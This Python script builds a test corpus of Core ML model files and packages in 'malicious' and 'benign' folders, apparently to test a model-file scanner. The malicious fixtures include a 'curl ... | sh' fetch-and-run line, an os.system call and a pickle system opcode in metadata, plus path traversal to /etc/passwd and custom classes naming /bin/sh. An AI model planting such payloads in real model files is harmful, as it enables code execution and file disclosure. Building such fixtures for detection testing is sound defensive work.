"""Core ML models and packages. Needs coremltools==9.0; writes malicious/ and benign/ beside itself."""
import json
import pathlib
import shutil
import struct

import numpy as np
from coremltools.converters.mil import Builder as mb
from coremltools.proto import FeatureTypes_pb2, MIL_pb2, Model_pb2

import coremltools as ct

HERE = pathlib.Path(__file__).resolve().parent
BAD, GOOD = HERE / "malicious", HERE / "benign"


def save(folder, name, content):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.SerializeToString(deterministic=True))


def model(version=4):
    made = Model_pb2.Model(specificationVersion=version)
    made.description.input.add(name="x").type.doubleType.SetInParent()
    made.description.output.add(name="y").type.doubleType.SetInParent()
    made.description.metadata.author = "corpus"
    return made


def regressor():
    made = model()
    made.description.predictedFeatureName = "y"
    made.glmRegressor.weights.add().value.append(0.5)
    made.glmRegressor.offset.append(0)
    return made


def program(file=None, op="relu"):
    made = model(7)
    made.description.ClearField("input")
    made.mlProgram.version = 1
    function = made.mlProgram.functions["main"]
    function.opset = "CoreML7"
    block = function.block_specializations["CoreML7"]
    operation = block.operations.add(type=op)
    operation.outputs.add(name="y")
    if file is not None:
        value = block.operations.add(type="const").attributes["val"]
        value.blobFileValue.fileName = file
        value.blobFileValue.offset = 64
    return made


def weights(size=16, offset=128, sentinel=0xDEADBEEF):
    return struct.pack("<II56x", 1, 2) + struct.pack("<IIQQ40x", sentinel, 1, size, offset) + bytes(16)


def manifest(path="com.apple.CoreML/model.mlmodel"):
    return json.dumps({"fileFormatVersion": "1.0.0", "rootModelIdentifier": "A", "itemInfoEntries": {
        "A": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path},
        "B": {"author": "com.apple.CoreML", "description": "CoreML Model Weights", "name": "weights", "path": "com.apple.CoreML/weights"}}}, indent=4).encode()


def malicious():
    bad = lambda name, content: save(BAD, name, content)
    made = model()
    made.customModel.className = "NSTaskLauncher"
    made.customModel.parameters["path"].stringValue = "/bin/sh -c"
    bad("custom_model.mlmodel", made)
    made = model()
    made.neuralNetwork.layers.add(name="l", input=["x"], output=["y"]).custom.className = "EvilLayer"
    bad("custom_layer.mlmodel", made)
    bad("custom_layer_renamed.bin", made)
    inner = model()
    inner.pipeline.models.add().CopyFrom(made)
    bad("custom_layer_in_pipeline.mlmodel", inner)
    branch = model()
    branch.neuralNetwork.layers.add(name="b").branch.ifBranch.layers.add(name="l").custom.className = "EvilLayer"
    bad("custom_layer_in_branch.mlmodel", branch)
    classifier = model()
    classifier.neuralNetworkClassifier.layers.add(name="l").custom.className = "EvilLayer"
    bad("custom_layer_in_classifier.mlmodel", classifier)
    linked = model()
    linked.linkedModel.linkedModelFile.linkedModelFileName.defaultValue = "../../other.mlmodelc"
    linked.linkedModel.linkedModelFile.linkedModelSearchPath.defaultValue = "/Library/Application Support"
    bad("linked_model.mlmodel", linked)
    near = model()
    near.linkedModel.linkedModelFile.linkedModelFileName.defaultValue = "other"
    bad("linked_model_beside.mlmodel", near)
    bad("weights_traversal.mlmodel", program("@model_path/../../../etc/passwd"))
    bad("weights_absolute.mlmodel", program("/etc/passwd"))
    bad("custom_operation.mlmodel", program(op="custom_layer"))
    for name, text in (("code", "__import__('os').system('echo never run')"), ("shell", "curl https://x.invalid/i.sh | sh"), ("pickle", "cposix\nsystem\n(S'echo never run'\ntR.")):
        made = regressor()
        made.description.metadata.userDefined["note"] = text
        bad(f"metadata_{name}.mlmodel", made)
    plain = regressor().SerializeToString(deterministic=True)
    bad("truncated.mlmodel", plain[:-6])
    other = model()
    other.customModel.className = "Other"
    bad("two_models.mlmodel", plain + other.SerializeToString(deterministic=True))
    bad("package_traversal.mlpackage/Manifest.json", manifest("../../../../tmp/model.mlmodel"))
    bad("package_absolute.mlpackage/Manifest.json", manifest("/etc/passwd"))
    bad("weights_outside.bin", weights(size=2**40))
    bad("weights_overlap.bin", weights(offset=8))


def benign():
    good = lambda name, content: save(GOOD, name, content)
    good("regressor.mlmodel", regressor())
    good("regressor_named.bin", regressor())
    trees = model()
    trees.description.predictedFeatureName = "y"
    trees.treeEnsembleRegressor.treeEnsemble.numPredictionDimensions = 1
    trees.treeEnsembleRegressor.treeEnsemble.basePredictionValue.append(0)
    leaf = trees.treeEnsembleRegressor.treeEnsemble.nodes.add(nodeBehavior=6)
    leaf.evaluationInfo.add(evaluationIndex=0, evaluationValue=1.0)
    good("trees.mlmodel", trees)
    pipe = model()
    pipe.pipeline.models.add().CopyFrom(regressor())
    pipe.pipeline.models.add().CopyFrom(trees)
    good("pipeline.mlmodel", pipe)
    network = model()
    network.neuralNetwork.layers.add(name="r", input=["x"], output=["y"]).activation.ReLU.SetInParent()
    loop = network.neuralNetwork.layers.add(name="l").loop
    loop.maxLoopIterations = 3
    loop.bodyNetwork.layers.add(name="b").add.SetInParent()
    good("neural_network.mlmodel", network)
    described = regressor()
    described.description.metadata.shortDescription = "Predicts the price of a house."
    described.description.metadata.license = "MIT"
    described.description.metadata.userDefined["com.github.apple.coremltools.version"] = "9.0"
    good("described.mlmodel", described)

    @mb.program(input_specs=[mb.TensorSpec(shape=(1, 4))])
    def small(x):
        return mb.relu(x=mb.linear(x=x, weight=np.ones((2, 4), np.float32), bias=np.zeros(2, np.float32)))

    for target, name in ((ct.target.iOS15, "program15"), (ct.target.iOS17, "program17")):
        spec = ct.convert(small, convert_to="mlprogram", minimum_deployment_target=target, skip_model_load=True).get_spec()
        good(f"{name}.mlmodel", spec)
    nn = ct.convert(small, convert_to="neuralnetwork", skip_model_load=True).get_spec()
    good("converted_network.mlmodel", nn)
    for name, spec in (("package", program("@model_path/weights/weight.bin")),):
        good(f"{name}.mlpackage/Manifest.json", manifest())
        good(f"{name}.mlpackage/Data/com.apple.CoreML/model.mlmodel", spec)
        good(f"{name}.mlpackage/Data/com.apple.CoreML/weights/weight.bin", weights())


if __name__ == "__main__":
    for folder in (BAD, GOOD):
        shutil.rmtree(folder, ignore_errors=True)
    malicious()
    benign()
